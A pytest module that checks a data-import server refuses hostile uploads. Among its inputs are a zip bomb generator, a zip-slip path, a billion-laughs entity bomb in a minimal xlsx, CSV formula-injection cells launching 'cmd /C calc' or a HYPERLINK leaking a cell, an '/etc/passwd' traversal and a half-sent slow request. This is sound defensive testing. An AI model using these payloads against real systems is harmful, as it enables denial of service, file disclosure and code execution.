"""Files that were made to do harm, through the real server: a clear refusal that costs neither memory nor time."""

import io
import socket
import time
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, NamedTuple

import asyncpg
import httpx2
import pytest

from loaders.run import load
from tests.conftest import new_database
from tests.sozialgraph.http.conftest import serving
from tests.sozialgraph.uploads.conftest import BASE, FIGURES, new_key, parts

PROVIDERS = """
kind = "organizations"
municipality = "01001000"
file = "providers.csv"
dataset = { code = "BASE" }

[fields]
code = { header = "Name", normalise = true }
name = "Name"
"""
HEAD = "Gebiet;Jahr;Einwohner\n"
SECONDS = 60.0
LIMIT = 4.0
"""Seconds that a question may take to arrive, and the next piece of an upload."""
WORKER = 700 * 2**20
"""Bytes that the process of an import may use; the libraries alone take 200 MB."""
SERVER = 40 * 2**20
"""Bytes by which the server may grow."""


class Ended(NamedTuple):
    told: dict[str, Any]
    seconds: float
    peak: int


@pytest.fixture(scope="module")
async def city(server: str, template: str, tmp_path_factory: pytest.TempPathFactory) -> Any:
    folder = tmp_path_factory.mktemp("base")
    for name, text in BASE.items():
        (folder / name).write_text(text)
    async with new_database(server, template) as dsn:
        await load(dsn, [folder], actor="test")
        yield dsn


@pytest.fixture(scope="module")
def uploads(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("data")


@pytest.fixture(scope="module")
def address(city: str, uploads: Path) -> Iterator[str]:
    with serving(city, SOZIALGRAPH_DATA=str(uploads), IMPORT_LIMIT="20", CLIENT_TIMEOUT=str(LIMIT)) as address:
        yield address.removesuffix("/graphql")


@pytest.fixture(scope="module")
async def key(city: str) -> str:
    return await new_key(city)


@pytest.fixture(scope="module")
def client(address: str, key: str) -> Iterator[httpx2.Client]:
    with httpx2.Client(base_url=address, headers={"authorization": f"Bearer {key}"}, timeout=60) as client:
        yield client


@pytest.fixture
def send(client: httpx2.Client, address: str) -> Callable[..., Ended]:
    def run(description: str, files: dict[str, str | bytes]) -> Ended:
        before, started, peak = server_memory(address), time.monotonic(), 0
        form = parts({"description.toml": description}, files)
        response = client.post("/imports", files=form, data={"mode": "publish"})
        assert response.status_code == 202, response.text
        while (told := client.get(response.headers["location"]).json())["state"] in ("WAITING", "RUNNING"):
            peak = max(peak, worker_memory(told["id"]))
            time.sleep(0.02)
        assert server_memory(address) - before < SERVER
        return Ended(told, time.monotonic() - started, peak)

    return run


def worker_memory(id: str) -> int:
    """The most that the process of an import has used so far; 0 when it has ended."""
    return sum(memory(process) for process in processes() if id.encode() in command(process))


def server_memory(address: str) -> int:
    port = address.rpartition(":")[2]
    environment = f"PORT={port}".encode()
    (found,) = [
        memory(process)
        for process in processes()
        if b"serve" in command(process) and environment in read(process / "environ").split(b"\0")
    ]
    return found


def processes() -> list[Path]:
    return [path for path in Path("/proc").iterdir() if path.name.isdigit()]


def command(process: Path) -> bytes:
    return read(process / "cmdline")


def memory(process: Path) -> int:
    lines = [line for line in read(process / "status").splitlines() if line.startswith(b"VmHWM")]
    return int(lines[0].split()[1]) * 1024 if lines else 0


def read(path: Path) -> bytes:
    try:
        return path.read_bytes()
    except OSError:
        return b""


def zipped(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def bomb(name: str, megabytes: int) -> bytes:
    """An archive whose only file unfolds to zeros."""
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
        archive.open(name, "w") as file,
    ):
        for _ in range(megabytes):
            file.write(bytes(2**20))
    return buffer.getvalue()


def workbook(entity: bytes = b"", sheet: bytes = b"") -> bytes:
    """The least that counts as a workbook."""
    main = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    office = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    package = b"http://schemas.openxmlformats.org/package/2006/"
    head = b'<?xml version="1.0" encoding="UTF-8"?>'
    kind = office + b"/worksheet"
    return zipped(
        {
            "[Content_Types].xml": head + b'<Types xmlns="' + package + b'content-types"/>',
            "_rels/.rels": head + b'<Relationships xmlns="' + package + b'relationships"/>',
            "xl/workbook.xml": head
            + b'<workbook xmlns="'
            + main
            + b'" xmlns:r="'
            + office
            + b'"><sheets>'
            + b'<sheet name="A" sheetId="1" r:id="r1"/></sheets></workbook>',
            "xl/_rels/workbook.xml.rels": head
            + b'<Relationships xmlns="'
            + package
            + b'relationships"><Relationship Id="r1" Type="'
            + kind
            + b'" Target="worksheets/sheet1.xml"/></Relationships>',
            "xl/worksheets/sheet1.xml": head
            + entity
            + b'<worksheet xmlns="'
            + main
            + b'"><sheetData>'
            + (sheet or b'<row r="1"><c r="A1" t="inlineStr"><is><t>Gebiet &z;</t></is></c></row>')
            + b"</sheetData></worksheet>",
        }
    )


LAUGHS = b'<!DOCTYPE b [<!ENTITY a "aaaaaaaaaa">' + b"".join(
    b'<!ENTITY %c "%s">' % (98 + level, b"&%c;" % (97 + level) * 10) for level in range(25)
) + b"]>"  # fmt: skip
FAR = b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'

FILES: dict[str, tuple[str, str | bytes | Callable[[], bytes], str]] = {
    "a zip bomb": (
        "figures.zip",
        lambda: bomb("figures.csv", 1024),
        "figures.zip/figures.csv: unfolds to more than 200 times its size, as no honest file does",
    ),
    "a path in a zip": (
        "figures.zip",
        zipped({"../../figures.csv": HEAD.encode()}),
        "figures.zip: names '../../figures.csv', which does not lie in its folder",
    ),
    "a bomb of entities": ("figures.xlsx", workbook(LAUGHS), "figures.xlsx: declares entities in"),
    "a sheet with a cell in its last corner": ("figures.xlsx", workbook(sheet=FAR), "figures.xlsx"),
    "an endless line": ("figures.csv", HEAD + "x" * 15_000_000, "figures.csv: has a line of more than 4,194,304 bytes"),
    "an open quotation mark": (
        "figures.csv",
        HEAD + '01;2023;"' + "1\n" * 5_000_000,
        "figures.csv, row 2: ",
    ),
    "NUL bytes": ("figures.csv", HEAD + "01;2023;\x00\n", "figures.csv, line 2: holds a NUL byte"),
    "deep JSON": ("figures.json", "[" * 100_000, "figures.json: is nested too deeply"),
    "a huge number": (
        "figures.csv",
        HEAD + "01;2023;" + "9" * 100_000 + "\n",
        "figures.csv, row 2, column 'Einwohner': ",
    ),
    "an exponent": ("figures.csv", HEAD + "01;2023;1e999999999\n", "figures.csv, row 2, column 'Einwohner': "),
}


@pytest.mark.parametrize("what", FILES)
def test_a_hostile_file_is_refused(send: Callable[..., Ended], what: str) -> None:
    name, content, said = FILES[what]
    ended = send(FIGURES.replace("figures.csv", name), {name: content() if callable(content) else content})
    assert ended.told["state"] == "REFUSED", ended.told
    (file,) = ended.told["files"]
    assert said in file["error"]
    assert len(file["error"]) < 1_000
    assert ended.seconds < SECONDS
    assert ended.peak < WORKER


@pytest.mark.parametrize(
    "cell", ["=1+1", '=HYPERLINK("http://x?"&A1)', "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "+x|'y'!A0"]
)
def test_formulas_are_refused(send: Callable[..., Ended], cell: str) -> None:
    content = "Name\nDiakonie\n" + '"' + cell.replace('"', '""') + '"\n'
    told = send(PROVIDERS, {"providers.csv": content}).told
    (problem,) = told["files"][0]["problems"]
    assert (told["state"], problem["row"], problem["column"]) == ("REFUSED", 3, "Name")
    assert problem["message"] == "begins as a spreadsheet's formula does: put a word or an apostrophe before it"


def test_a_description_that_reads_elsewhere_is_refused(send: Callable[..., Ended]) -> None:
    told = send(FIGURES.replace("figures.csv", "../../../../etc/passwd"), {}).told
    assert (told["state"], told["error"]) == (
        "REFUSED",
        "description.toml: file = '../../../../etc/passwd' must lie below the data folder",
    )


def test_a_form_that_is_half_sent_is_dropped(address: str, key: str, uploads: Path) -> None:
    host, port = address.removeprefix("http://").split(":")
    there = set(uploads.glob("uploads/*"))
    with socket.create_connection((host, int(port))) as connection:
        head = f"POST /imports HTTP/1.1\r\nhost: x\r\nauthorization: Bearer {key}\r\ncontent-length: 900000\r\n"
        part = '--x\r\ncontent-disposition: form-data; name="file"; filename="a.csv"\r\n\r\n'
        connection.sendall((head + "content-type: multipart/form-data; boundary=x\r\n\r\n" + part).encode())
        wait_until(lambda: bool(set(uploads.glob("uploads/*")) - there))
    wait_until(lambda: set(uploads.glob("uploads/*")) == there)


def test_a_slow_line_may_take_longer_than_a_question(address: str, key: str) -> None:
    def slowly() -> Iterator[bytes]:
        yield b'--x\r\ncontent-disposition: form-data; name="file"; filename="a.csv"\r\n\r\n'
        for _ in range(12):
            time.sleep(LIMIT / 8)
            yield b"1\n"
        yield b"\r\n--x--\r\n"

    headers = {"authorization": f"Bearer {key}", "content-type": "multipart/form-data; boundary=x"}
    response = httpx2.post(f"{address}/imports", content=slowly(), headers=headers, timeout=60)
    (error,) = response.json()["errors"]
    assert error["message"] == "The form's fields are wrong: Object missing required field `mode`."


async def test_nothing_of_all_this_was_stored(city: str) -> None:
    connection = await asyncpg.connect(city)
    for table in ("raw.observations", "organizations"):
        assert await connection.fetchval(f"SELECT count(*) FROM {table}") == 0
    await connection.close()


def wait_until(holds: Callable[[], bool]) -> None:
    deadline = time.monotonic() + 30
    while not holds():
        assert time.monotonic() < deadline
        time.sleep(0.02)
